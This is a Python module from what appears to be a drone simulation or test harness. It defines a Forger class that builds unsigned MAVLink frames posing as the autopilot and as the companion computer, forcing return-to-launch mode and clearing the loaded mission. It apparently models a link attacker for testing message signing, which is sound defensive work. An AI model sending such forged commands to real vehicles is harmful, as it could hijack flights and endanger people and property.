"""An attacker on the link between vehicle and companion, without the signing key.

It sends the companion, as the autopilot, mode RTL and another loaded mission. It commands the
autopilot, as the companion, to return to launch and to clear the mission.
"""

from dataclasses import dataclass, field

from sim_bridge.app.link.client_messages import (
    COMPANION_COMPONENT,
    MODE_PARAMS,
    autopilot_heartbeat,
    command_long,
    message_to_autopilot,
)
from sim_bridge.autopilot.mavlink.codec import Encoder, Message
from sim_bridge.autopilot.mavlink.enums import Cmd


@dataclass(slots=True)
class Forger:
    """Sends forged, unsigned messages for one vehicle at every exchange."""

    system: int
    autopilot_kind: str
    sent_count: int = 0  # of rounds sent to the companion
    _encoders: dict[int, Encoder] = field(default_factory=dict)

    def forge_to_companion(self) -> list[bytes]:
        """Return forged frames of the autopilot."""
        self.sent_count += 1
        heartbeat = autopilot_heartbeat(self.autopilot_kind, "rtl", base_mode=129)
        mission_current = Message("MISSION_CURRENT", seq=1, total=3)
        return [self._encode_frame(1, heartbeat), self._encode_frame(1, mission_current)]

    def forge_to_autopilot(self) -> list[bytes]:
        """Return forged frames of the companion."""
        rtl = MODE_PARAMS[self.autopilot_kind]["rtl"]
        mode_command = command_long(self.system, 1, Cmd.DO_SET_MODE, *rtl)
        clear = message_to_autopilot("MISSION_CLEAR_ALL", self.system)
        return [self._encode_frame(COMPANION_COMPONENT, one) for one in (mode_command, clear)]

    def _encode_frame(self, component: int, message: Message) -> bytes:
        encoder = self._encoders.setdefault(component, Encoder(self.system, component))
        return encoder.encode_next_frame(message)
